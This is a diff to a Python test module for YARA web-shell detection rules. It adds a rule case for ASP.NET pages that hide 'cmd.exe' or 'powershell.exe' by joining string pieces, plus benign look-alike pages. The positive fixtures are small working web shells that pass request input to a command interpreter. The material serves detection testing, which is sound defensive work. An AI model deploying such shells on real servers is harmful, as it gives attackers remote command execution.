@@ -20,12 +20,19 @@ it - a memory-shell injector that reads no request, so the loader rules (which w
 ``EXT_WEBSHELL_Embedded_Assembly_Loaded_In_Memory`` (``data/rules/payload_launchers.yar``) needs the base64 DOS
 header in the page, Assembly.Load from base64 and an instantiation or invocation.
 
+A second batch held a Go C2 framework's shells (only its droppers had been measured, in session 8) that never write
+"cmd.exe": three constants ("cm", "d.e", "xe") joined into ``ProcessStartInfo.FileName``.
+``EXT_WEBSHELL_Interpreter_Name_Split_Into_Literals`` (``data/rules/generated_page_obfuscation.yar``) needs a
+FileName joined from three or more pieces, three literals that are pieces of cmd.exe or powershell.exe, a process
+start and a request read.
+
 The ordinary pages are the closest everyday ones: a payment
 callback and a licence handler that decrypt a posted body, a maintenance page dispatching on list/read/write over
 its own log folder without decrypting anything, a report page that starts a tool with its output on pipes, a port
 check through ws2_32 that starts nothing, an installer that checks App_Data is writable, and a clean-up page that
-walks a typed folder deleting old files, a download page that sends an installer held as base64, and a plug-in
-page that loads its assembly from bin.
+walks a typed folder deleting old files, a download page that sends an installer held as base64, a plug-in
+page that loads its assembly from bin, a page starting a tool from its folder, name and ".exe", and a report page
+joining a file name from pieces for a fixed converter.
 """
 
 from __future__ import annotations
@@ -40,6 +47,7 @@ _DISPATCH = "EXT_WEBSHELL_Encrypted_Request_Command_Dispatcher"
 _SOCKET = "EXT_WEBSHELL_Socket_Handle_As_Process_Stdio"
 _SCANNER = "EXT_WEBSHELL_Writable_Folder_Scanner"
 _EMBEDDED = "EXT_WEBSHELL_Embedded_Assembly_Loaded_In_Memory"
+_SPLIT = "EXT_WEBSHELL_Interpreter_Name_Split_Into_Literals"
 
 #: the base64 of a bare DOS header and nothing after it: the shape of an embedded assembly, not a program
 _HEADER_B64 = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA=="
@@ -318,11 +326,75 @@ EMBEDDED_ORDINARY: list[Page] = [
     ),
 ]
 
+SPLIT_NAMES: list[Page] = [
+    (
+        "cs-consts-joined-filename",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Diagnostics" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        '  const string q1 = "cm"; const string q2 = "d.e"; const string q3 = "xe";\n'
+        '  string arg = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request.QueryString["q"] ?? ""));\n'
+        "  var psi = new ProcessStartInfo();\n"
+        "  psi.FileName = q1+q2+q3;\n"
+        '  psi.Arguments = "/c " + arg; psi.UseShellExecute = false;\n'
+        "  Process.Start(psi);\n}\n</script>\n",
+    ),
+    (
+        "cs-handler-powershell-pieces",
+        ".ashx",
+        '<%@ WebHandler Language="C#" Class="H" %>\n'
+        "using System; using System.Web; using System.Diagnostics;\n"
+        "public class H : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
+        "  public void ProcessRequest(HttpContext c) {\n"
+        '    string a = "power", b = "shell", x = ".exe";\n'
+        "    var p = new Process();\n"
+        "    p.StartInfo.FileName = a + b + x;\n"
+        '    p.StartInfo.Arguments = "-c " + c.Request.Form["s"];\n'
+        "    p.Start();\n  }\n}\n",
+    ),
+    (
+        "vb-ampersand-pieces",
+        ".aspx",
+        '<%@ Page Language="VB" %>\n<script runat="server">\n'
+        "Sub Page_Load(s As Object, e As EventArgs)\n"
+        '  Const a As String = "cmd" : Const b As String = ".e" : Const c As String = "xe"\n'
+        "  Dim si As New System.Diagnostics.ProcessStartInfo()\n"
+        "  si.FileName = a & b & c\n"
+        '  si.Arguments = "/c " & Request.Form("t")\n'
+        "  System.Diagnostics.Process.Start(si)\nEnd Sub\n</script>\n",
+    ),
+]
+
+SPLIT_ORDINARY: list[Page] = [
+    (
+        "tool-path-from-folder-and-name",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Diagnostics" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        '  string dir = Server.MapPath("~/bin/tools/"), name = "thumbnailer";\n'
+        "  var psi = new ProcessStartInfo();\n"
+        '  psi.FileName = dir + name + ".exe";\n'
+        '  psi.Arguments = "\\"" + Server.MapPath("~/uploads/" + System.IO.Path.GetFileName(Request.QueryString["img"])) + "\\"";\n'
+        "  Process.Start(psi).WaitForExit(5000);\n}\n</script>\n",
+    ),
+    (
+        "report-converter-fixed-program",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        '  string a = "rep", b = "ort", c = ".pdf";\n'
+        '  string year = Request.QueryString["y"] ?? "2026";\n'
+        '  System.Diagnostics.Process.Start(Server.MapPath("~/bin/conv.exe"), a + b + year + c);\n'
+        "}\n</script>\n",
+    ),
+]
+
 CASES: list[RuleCase] = [
     (_DISPATCH, DISPATCHERS, DISPATCH_ORDINARY),
     (_SOCKET, SOCKET_SHELLS, SOCKET_ORDINARY),
     (_SCANNER, SCANNERS, SCANNER_ORDINARY),
     (_EMBEDDED, EMBEDDED_LOADERS, EMBEDDED_ORDINARY),
+    (_SPLIT, SPLIT_NAMES, SPLIT_ORDINARY),
 ]
 
 test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)
